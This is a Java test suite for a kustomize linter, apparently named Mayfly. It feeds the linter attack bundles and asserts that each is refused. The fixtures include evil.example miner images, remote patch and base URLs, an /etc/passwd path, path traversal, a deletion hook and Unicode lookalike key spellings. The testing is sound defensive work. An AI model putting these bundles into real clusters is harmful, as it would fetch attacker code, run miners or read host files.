package dev.mayfly.command;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mayfly.command.console.ExitCode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;

/** Ways to say one thing to Mayfly and another to kustomize, each refused with its sentence. */
class KustomizeAttacksTest {
  private static final Path EXAMPLE = Examples.HOME.resolve("primitives").toAbsolutePath();
  private static final String EVIL =
      "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: e}\nspec: {template: {spec:"
          + " {containers: [{name: e, image: evil.example/miner:latest}]}}}\n";
  private static final String UNPINNED =
      "error[unpinned-image]: the image `evil.example/miner:latest` is not pinned by digest";
  private static final String CONTAINER =
      """
      {"op": "add", "path": "/spec/template/spec/containers/-",
          "value": {"name": "e", "image": "evil.example/miner:latest"}}\
      """;

  @TempDir Path temp;

  private record Attack(String kustomization, Map<String, String> files, String sentence) {}

  private static Attack attack(String kustomization, String sentence) {
    return new Attack(kustomization, Map.of(), sentence);
  }

  private static Attack with(String file, String text, String kustomization, String sentence) {
    return new Attack(kustomization, Map.of(file, text), sentence);
  }

  private static String patch(String target, String operations) {
    return "patches:\n- target: " + target + "\n  patch: '[" + operations + "]'\n";
  }

  /** Refused before any program starts, so the same everywhere. */
  @TestFactory
  Stream<DynamicTest> keysInOtherSpellings() {
    List<DynamicTest> tests = new ArrayList<>();
    for (String key :
        new String[] {
          "Bases",
          "Components",
          "Configurations",
          "Crds",
          "Generators",
          "Patches",
          "PatchesStrategicMerge",
          "PatchesJson6902",
          "Replicas",
          "ConfigMapGenerator",
          "SecretGenerator",
          "GeneratorOptions",
          "NameSuffix",
          "ba\u017fe\u017f",
          "\u212Aind",
          "HelmCharts",
          "Validators",
          "Vars",
          "image\u017f",
          "rePlacements"
        }) {
      Attack attack = attack(key + ": []\n", "error[unknown-key]: unknown key `" + key + "`");
      for (Map<String, String> env : List.of(Map.<String, String>of(), path())) {
        tests.add(test(key + (env.isEmpty() ? "" : " with kustomize"), attack, env));
      }
    }
    return tests.stream();
  }

  @TestFactory
  Stream<DynamicTest> whatRunsOrFetches() {
    String remote = "error[remote-base]";
    String program = "error[kustomize-program]";
    List<Attack> attacks =
        List.of(
            attack("generators: [g.yaml]\n", program),
            attack("transformers: [t.yaml]\n", program),
            attack("validators: [v.yaml]\n", program),
            attack("helmCharts: [{name: x, repo: 'https://evil.example'}]\n", program),
            attack("patches: [{path: 'https://evil.example/p.yaml'}]\n", remote),
            attack("patchesStrategicMerge: ['https://evil.example/p']\n", remote),
            attack("patchesJson6902: [{path: 'https://evil.example/p'}]\n", remote),
            attack("configMapGenerator: [{files: ['a=http://evil.example/x']}]\n", remote),
            attack("secretGenerator: [{envs: ['http://evil.example/x']}]\n", remote),
            attack("secretGenerator: [{env: 'http://evil.example/x'}]\n", remote),
            attack("bases: [\"https://evil.example/x\\n\"]\n", remote),
            attack("components: [github.com/evil/base]\n", remote),
            attack("configurations: ['https://evil.example/c']\n", remote),
            attack("crds: ['https://evil.example/c.yaml']\n", remote),
            attack("replacements: [{path: 'https://evil.example/r'}]\n", remote),
            attack("openapi: {path: 'https://evil.example/s'}\n", remote),
            attack("patches: [{path: /etc/passwd}]\n", "error[path-outside-bundle]"),
            attack("crds: [../../x]\n", "error[path-outside-bundle]"));
    return attacks.stream()
        .flatMap(attack ->
            Stream.of(Map.<String, String>of(), path())
                .map(
                    env -> test(attack.kustomization().strip() + " " + env.keySet(), attack, env)));
  }

  /** The real program is asked, and what it builds is judged. */
  @TestFactory
  Stream<DynamicTest> judgedByWhatIsBuilt() {
    Map<String, String> env = Programs.path("kustomize");
    return attacks().entrySet().stream()
        .map(attack -> test(attack.getKey(), attack.getValue(), env));
  }

  /** Without it, the same are undecided, which refuses. */
  @TestFactory
  Stream<DynamicTest> undecidedWithoutTheProgram() {
    return attacks().entrySet().stream()
        .map(entry ->
            test(
                entry.getKey(),
                new Attack(
                    entry.getValue().kustomization(), entry.getValue().files(), "error[undecided]"),
                Map.of()));
  }

  private static Map<String, Attack> attacks() {
    return Map.ofEntries(
        Map.entry(
            "name is a pattern",
            attack(patch("{kind: Deployment, name: ord.*}", CONTAINER), UNPINNED)),
        Map.entry(
            "copy",
            attack(
                patch(
                    "{kind: Deployment}",
                    CONTAINER
                        + ", {\"op\": \"copy\", \"from\": \"/spec/template/spec/containers/1\","
                        + " \"path\": \"/spec/template/spec/containers/-\"}"),
                UNPINNED)),
        Map.entry(
            "a value of nowhere",
            attack(
                "replacements: [{sourceValue: 'evil.example/miner:latest', targets: [{select: {kind:"
                    + " Deployment}, fieldPaths: [spec.template.spec.containers.0.image]}]}]\n",
                UNPINNED)),
        Map.entry(
            "duplicate in a list",
            with(
                "p.yaml",
                "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: orders}\nspec: {template:"
                    + " {spec: {containers: [{name: e, image: 'evil.example/miner:latest'}, {name:"
                    + " e, image: 'evil.example/miner:latest'}]}}}\n",
                "patches: [{path: p.yaml}]\n",
                UNPINNED)),
        Map.entry(
            "generator that replaces",
            attack(
                "secretGenerator: [{name: x, literals: [a=b], options: {annotations:"
                    + " {argocd.argoproj.io/hook: PreDelete}}}]\n",
                "error[deletion-hook]")),
        Map.entry("count", attack("replicas: [{name: orders, count: 40}]\n", "error[over-quota]")),
        Map.entry(
            "former name",
            new Attack(
                "resources: [deployment.yaml, image.ref.yaml, b]\nnamePrefix: y-\n",
                Map.of(
                    "b/kustomization.yaml",
                    "resources: [e.yaml]\nnamePrefix: x-\n",
                    "b/e.yaml",
                    EVIL),
                UNPINNED)),
        Map.entry(
            "a component of its own",
            new Attack(
                "components: [c]\n",
                Map.of(
                    "c/kustomization.yaml",
                    "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\nresources:"
                        + " [e.yaml]\n",
                    "c/e.yaml",
                    EVIL),
                UNPINNED)));
  }

  private DynamicTest test(String name, Attack attack, Map<String, String> env) {
    return DynamicTest.dynamicTest(
        name,
        () -> {
          CommandLineRun run = lint(attack, env);
          assertThat(run.code()).as(run.out() + run.err()).isEqualTo(ExitCode.FINDINGS);
          assertThat(run.out()).contains(attack.sentence());
        });
  }

  private CommandLineRun lint(Attack attack, Map<String, String> env) throws IOException {
    Path folder = Files.createTempDirectory(temp, "bundle");
    Path source = EXAMPLE.resolve("source/primitives/service/orders/deploy");
    try (Stream<Path> files = Files.list(source)) {
      for (Path file : files.toList()) {
        Files.copy(file, folder.resolve(file.getFileName()));
      }
    }
    for (Map.Entry<String, String> file : attack.files().entrySet()) {
      Path path = folder.resolve(file.getKey());
      Files.createDirectories(path.getParent());
      Files.writeString(path, file.getValue());
    }
    Path kustomization = folder.resolve("kustomization.yaml");
    String text = Files.readString(kustomization);
    for (String key : List.of("resources", "replacements")) {
      if (attack.kustomization().startsWith(key + ":")) {
        text = text.replaceFirst(key + ":\n( +.*\n)+", "");
      }
    }
    Files.writeString(kustomization, text + attack.kustomization());
    return CommandLineRun.of(
        CommandCatalog.all(), env, EXAMPLE, "lint", "--bundle", folder.toString());
  }

  private static Map<String, String> path() {
    return Map.of("PATH", System.getenv("PATH"));
  }
}
